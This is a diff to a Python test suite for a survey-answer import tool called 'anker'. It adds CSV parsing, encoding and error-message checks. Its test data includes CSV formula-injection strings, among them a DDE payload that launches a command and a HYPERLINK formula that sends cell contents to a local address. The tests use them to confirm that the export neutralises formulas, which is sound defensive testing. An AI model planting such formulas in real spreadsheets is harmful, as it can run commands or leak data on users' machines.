@@ -72,6 +72,11 @@ REFUSED = {
     "txt-cesu-surrogates.txt": r"^:1:byte 3: .*surrogate",
     "txt-binary.txt": r"no text",
     "txt-is-docx.txt": r"DOCX",
+    "csv-nul.csv": r"^:2: error: row 2, column 2 .*NUL",
+    "csv-unbalanced-quote.csv": r"^:2: error: .*field 2 of row 2 is never closed",
+    "csv-ragged.csv": r"^:3: error: row 3 has 2 fields.*--lenient",
+    "csv-100k-columns.csv": r"more than 65536 columns",
+    "csv-empty.csv": r"is empty",
 }
 OK_SHEET = [{"Name": "Person A", "Antwort": "Ich fand das gut."}]
 OK_XML = [{"q1": "gut"}, {"q1": "Öde"}]
@@ -93,6 +98,21 @@ ANSWERS = {
         {"Name": text, "Antwort": text} for text in
         ["=1+1", "=cmd|'/C calc'!A1", "+49 170 1", "-5", "- na ja", "@SUM(A1)", "\t=1+1", "=1+1",
          '=HYPERLINK("http://127.0.0.1:9/?"&A1)']],
+    "ok.csv": [{"name": "A", "antwort": "gut, sehr"}, {"name": "B", "antwort": "schlecht"}],
+    "csv-quote-in-field.csv": [{"a": 'a"b"c'}, {"a": "d"}],
+    "csv-semicolon-cp1252.csv": [{"name": "Müller", "wert": "3.5"}, {"name": "„Änne“", "wert": "4.0"}],
+    **dict.fromkeys(["csv-sep-line.csv", "csv-bom.csv", "csv-no-final-newline.csv"], [{"a": "x"}]),
+    "csv-utf16-tab.csv": [{"name": "Müller"}],
+    "csv-formula.csv": [{"a": text} for text in ["=1+1", "@SUM(A1)", "+49", "-5", "\t=1+1", "\n=1+1"]],
+    "csv-duplicate-header.csv": [{"a (2)": "2", "Spalte C": "3", "A": "4"}],
+    "csv-field-5mb.csv": [{"a": "zeile\n" * 873813}],
+    "csv-header-only.csv": [],
+    "csv-blank-lines.csv": [{"a": "x"}, {"a": "y"}],
+}
+#: What a file that is read says besides, as a regular expression.
+TOLD = {
+    "csv-semicolon-cp1252.csv": r"windows-1252(.|\n)*--encoding(.|\n)*';' between fields and ',' as the decimal sign(.|\n)*--separator",
+    "csv-header-only.csv": r"warning: the sheet holds no answers",
 }
 OK_TEXT = "I: Wie heißen Sie?\nB: Müller, „Änne“ Müller – 5 €.\n"
 GERMAN = "I: Wie heißen Sie?\nB: Müller, „Änne“ – 5 €.\n"
@@ -137,6 +157,8 @@ def check(tally: Tally, anker: str, kit: pathlib.Path, rows: list, folder: pathl
             tally.check(re.search(pattern, said), f"{row.shown}: asked for: {row.asked}\n       said: {message}")
             tally.check(len(done.err.splitlines()) > len(done.messages), f"{row.shown}: the message has no remedy")
             continue
+        if row.name in TOLD:
+            tally.check(re.search(TOLD[row.name], done.err), f"{row.shown}: asked for: {row.asked}\n       said: {done.err}")
         known = check_accepted(tally, anker, row, study, folder)
         if not known:
             unknown.append(row.shown)
@@ -171,8 +193,8 @@ def check_accepted(tally: Tally, anker: str, row, study: pathlib.Path, folder: p
         check_quote(tally, anker, row, study, QUOTES[row.name])
     if row.importer == "transcript" and row.name != "txt-long-line.txt":
         check_outputs(tally, anker, row, study, folder)
-    if row.name == "ods-formula-cells.ods":
-        check_formulas(tally, anker, study, folder)
+    if row.name in ("ods-formula-cells.ods", "csv-formula.csv"):
+        check_formulas(tally, anker, row, study, folder)
     return known
 
 
@@ -229,15 +251,15 @@ def check_outputs(tally: Tally, anker: str, row, study: pathlib.Path, folder: pa
     tally.check(well_formed, f"{row.shown}: the GraphML is not well-formed")
 
 
-def check_formulas(tally: Tally, anker: str, study: pathlib.Path, folder: pathlib.Path):
+def check_formulas(tally: Tally, anker: str, row, study: pathlib.Path, folder: pathlib.Path):
     for excel in (False, True):
         out = folder / f"formulas-{excel}"
         run([anker, "export", "csv", out, "--study", study, *(["--excel"] if excel else [])])
         with open(out / "responses.csv", encoding="utf-8-sig", newline="") as file:
             values = [line["value"] for line in csv.DictReader(file, delimiter=";" if excel else ",")]
-        wanted = [text for answer in ANSWERS["ods-formula-cells.ods"] for text in answer.values()]
-        tally.check(values == [("'" if excel else "") + text for text in wanted],
-                    f"ods-formula-cells.ods: export csv{' --excel' if excel else ''} wrote {values}")
+        wanted = [text for answer in ANSWERS[row.name] for text in answer.values()]
+        tally.check(values == [("'" if excel and not text.startswith("\n") else "") + text for text in wanted],
+                    f"{row.shown}: export csv{' --excel' if excel else ''} wrote {values}")
 
 
 def check_details(tally: Tally, anker: str, kit: pathlib.Path, folder: pathlib.Path):
@@ -251,6 +273,12 @@ def check_details(tally: Tally, anker: str, kit: pathlib.Path, folder: pathlib.P
         with open_at_rest(study) as db:
             found = db.execute("SELECT text FROM revision").fetchone()
         tally.check(done.status == 0 and found == (text,), f"{name} with --encoding {encoding}: {done.err or found}")
+    study = new_study(anker, folder)
+    done = run([anker, "import", "--study", study, "--lenient", kit / "csv-ragged.csv"])
+    with open_at_rest(study) as db:
+        found = answers(db)
+    tally.check(found == [{"a": "1", "b": "2", "c": "3"}, {"a": "1", "b": "2"}, {"a": "1", "b": "2", "c": "3", "Spalte D": "4"}] and "warning: 2 rows" in done.err,
+                f"csv-ragged.csv with --lenient: {done.err or found}")
     for name in ("txt-cp1252.txt", "txt-latin1.txt"):
         done = run([anker, "import", "--study", new_study(anker, folder), kit / name])
         tally.check("windows-1252" in done.err and "--encoding" in done.err, f"{name}: read without a notice")
